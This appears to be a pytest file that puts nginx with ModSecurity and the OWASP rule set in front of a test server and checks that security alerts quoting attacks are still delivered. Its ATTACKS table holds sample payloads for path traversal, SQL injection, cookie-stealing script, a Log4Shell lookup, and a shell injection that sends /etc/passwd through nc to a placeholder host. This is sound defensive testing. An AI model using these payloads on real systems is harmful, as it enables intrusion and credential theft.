"""Alerts that quote an attack, through a real firewall: nginx with ModSecurity and the OWASP core rule set."""

import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from fapilog.testing import Answer
from tests.doubles.http_providers import EACH, Provider
from tests.doubles.origin import Origin
from tests.doubles.servers import free_port
from tests.providers.conftest import an_event

pytest.importorskip("httpx2")

# From Debian's packages nginx, libnginx-mod-http-modsecurity and modsecurity-crs.
NGINX = shutil.which("nginx", path="/usr/sbin:/usr/bin")
MODULE = Path("/usr/lib/nginx/modules/ngx_http_modsecurity_module.so")
RULES = Path("/usr/share/modsecurity-crs/rules")

pytestmark = [
    pytest.mark.real_time,
    pytest.mark.one_backend,
    pytest.mark.skipif(not (NGINX and MODULE.exists() and RULES.exists()), reason="needs nginx with ModSecurity"),
]

ATTACKS = {
    "path traversal": "GET /../../../../etc/passwd HTTP/1.1",
    "SQL injection": "q=1' UNION SELECT username, password FROM users--",
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "Log4Shell": "${jndi:ldap://198.51.100.7/a}",
    "shell injection": "; cat /etc/passwd | nc 198.51.100.7 4444",
}


class Firewall:
    """
    nginx with the rule set in its default strictness, in front of a server.

    Args:
        directory: Of all its files.
        upstream: Where it passes on what the rules allow.
    """

    def __init__(self, directory: Path, upstream: str) -> None:
        self._directory = directory
        port = free_port()
        self.url: str = f"http://127.0.0.1:{port}"
        (directory / "rules.conf").write_text(
            "SecRuleEngine On\nSecRequestBodyAccess On\nSecResponseBodyAccess Off\nSecAuditEngine Off\n"
            # As in ModSecurity's recommended configuration.
            'SecRule REQUEST_HEADERS:Content-Type "^application/(?:[a-z0-9.-]+[+])?json" '
            '"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"\n'
            f"SecTmpDir {directory}\nSecDataDir {directory}\n"
            f"Include /etc/modsecurity/crs/crs-setup.conf\nInclude {RULES}/*.conf\n"
        )
        temporary = ("client_body", "proxy", "fastcgi", "uwsgi", "scgi")
        (directory / "nginx.conf").write_text(
            f"load_module {MODULE};\nworker_processes 1;\npid {directory}/pid;\nerror_log {directory}/error.log;\n"
            "events {}\nhttp {\naccess_log off;\n"
            + "".join(f"{name}_temp_path {directory}/{name};\n" for name in temporary)
            + f"modsecurity on;\nmodsecurity_rules_file {directory}/rules.conf;\n"
            f"server {{ listen 127.0.0.1:{port}; location / {{ proxy_pass {upstream}; }} }}\n}}\n"
        )

    def command(self, *arguments: str) -> None:
        """Run nginx with *arguments*; without any it starts, and returns when it listens."""
        result = subprocess.run(
            [str(NGINX), "-c", f"{self._directory}/nginx.conf", "-p", str(self._directory), *arguments],
            capture_output=True,
            text=True,
            check=False,
        )
        assert result.returncode == 0, result.stderr


@pytest.fixture
def firewall(tmp_path: Path, origin: Origin) -> Iterator[Firewall]:
    """Run a firewall in front of *origin*."""
    firewall = Firewall(tmp_path, origin.base_url)
    firewall.command()
    try:
        yield firewall
    finally:
        firewall.command("-s", "stop")


@pytest.mark.slow
@pytest.mark.parametrize("provider", EACH)
async def test_an_attack_that_is_quoted_is_told_of(origin: Origin, firewall: Firewall, provider: Provider) -> None:
    """Of an attack whose own words the firewall refuses, people are told that there was one, and where it is kept."""
    refused = 0
    for name, words in ATTACKS.items():
        origin.requests.clear()
        origin.script(provider.taken)
        event = an_event(message=f"refused: {words}")
        await provider.make(firewall.url).send_alert(event, severity="security", channel="#on-call")
        [taken] = origin.requests
        assert event.event_id in taken.body.decode(), name
        refused += "refused:" not in taken.body.decode()
    assert refused  # else there was no firewall


@pytest.mark.slow_on_trio
async def test_what_quotes_no_attack_passes_whole(origin: Origin, firewall: Firewall) -> None:
    """The firewall lets an alert in everyday words through as it is."""
    provider: Provider = EACH[0].values[0]  # type: ignore[assignment]
    origin.script(Answer(204, b""))
    await provider.make(firewall.url).send_alert(an_event(), severity="security", channel="#on-call")
    [taken] = origin.requests
    assert "five wrong passwords" in taken.body.decode()
